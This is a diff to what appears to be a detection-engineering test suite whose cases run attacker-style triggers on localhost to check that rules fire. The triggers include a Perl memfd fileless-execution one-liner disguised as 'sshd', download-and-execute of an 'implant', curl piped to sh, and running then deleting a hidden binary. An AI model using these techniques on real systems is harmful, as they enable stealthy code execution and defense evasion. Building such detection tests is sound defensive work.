@@ -203,7 +203,7 @@ CASES = [
     Case(id="execution.fileless.memfd_perl", tactic="defense_evasion", technique="T1620",
          rules=["Fileless Execution from Memory"],
          trigger=r'''
-            perl -e 'my $n=syscall(319,"x",0); open(my $fh,">&=".$n) or die; open(my $b,"<","/bin/true"); binmode $b; local $/; my $d=<$b>; print {$fh} $d; close $b; exec {"/proc/$$/fd/$n"} "sshd";'
+            perl -e 'my $nm="x"; my $n=syscall(319,$nm,0); open(my $fh,">&=".$n) or die; open(my $b,"<","/bin/true"); binmode $b; local $/; my $d=<$b>; print {$fh} $d; close $b; $fh->flush; exec {"/proc/$$/fd/$n"} "sshd";'
          ''', where=BOTH, needs=["perl"]),
     # --- interactive shells in containers -------------------------------------------------
     Case(id="execution.container.terminal_shell", tactic="execution", technique="T1059.004",
@@ -276,4 +276,29 @@ BENIGN = [
             echo report > "$DET_DIR/report.txt"
             scp -q "$DET_DIR/report.txt" "$DET_DIR/report.copy"
          ''', where=("host",), needs=["ssh-keygen", "scp"]),
+]
+
+# Sequence rules (rules/pending/execution.yaml): run with --pending.
+CASES += [
+    Case(id="execution.pending.download_then_exec", tactic="execution", technique="T1105",
+         rules=["Downloaded File Executed"], pending=True,
+         trigger=SERVE + r'''
+            curl -fsS -o /tmp/dl.$$ "http://127.0.0.1:$DET_PORT2/implant"
+            chmod 700 /tmp/dl.$$ && /tmp/dl.$$
+         ''', cleanup='rm -f /tmp/dl.*', where=BOTH, needs=["curl"]),
+    Case(id="execution.pending.deleted_binary_running", tactic="defense_evasion", technique="T1070.004",
+         rules=["Running Program's Executable Deleted"], pending=True,
+         trigger=r'''
+            cp /bin/sleep /var/tmp/.kdevtmp.$$
+            /var/tmp/.kdevtmp.$$ 3 &
+            sleep 0.5
+            rm -f /var/tmp/.kdevtmp.$$
+            wait
+         ''', cleanup='rm -f /var/tmp/.kdevtmp.*', where=BOTH),
+    # curl | sh typed in a script: no single command line holds both ends.
+    Case(id="execution.pending.curl_pipe_sh_in_script", tactic="execution", technique="T1059.004",
+         rules=["Downloader and Shell Started by the Same Parent"], pending=True,
+         trigger=SERVE + r'''
+            curl -fsSL "http://127.0.0.1:$DET_PORT2/stage.sh" | sh
+         ''', where=BOTH, needs=["curl"]),
 ]
